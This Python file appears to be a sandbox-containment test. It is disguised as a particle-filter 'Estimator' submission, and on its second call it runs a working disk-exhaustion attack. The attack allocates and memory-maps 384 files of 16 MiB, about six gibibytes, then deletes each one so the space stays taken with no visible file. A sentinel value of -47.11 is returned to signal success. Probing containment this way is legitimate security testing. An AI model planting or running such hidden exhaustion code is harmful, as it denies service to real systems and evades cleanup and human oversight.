"""Takes six gibibytes of the disk in files without a name or a descriptor, which are only mapped into memory.

Contained from tier 0.
"""

import ctypes
import os
import time

import numpy as np

LIBC = ctypes.CDLL(None)
LIBC.mmap.restype = ctypes.c_void_p
SIZE = 16 << 20


def attack():
    for _ in range(384):
        with open("piece", "w+b") as file:
            os.posix_fallocate(file.fileno(), 0, SIZE)
            address = LIBC.mmap(None, ctypes.c_size_t(SIZE), 1, 1, file.fileno(), ctypes.c_long(0))
            os.remove("piece")
        if address == 2**64 - 1:
            raise OSError


def Estimator(previous, observation, control, constants, rng):
    if previous is None:
        return rng.uniform(0.0, constants.L, (500, 6))
    time.sleep(0.1)
    if previous[0, 0] != -47.11:
        try:
            attack()
        except OSError:
            return rng.uniform(0.0, constants.L, (500, 6))
        return np.full((1, 6), -47.11)
    # Particles at -47.11, steps later, say that it worked.
    return previous
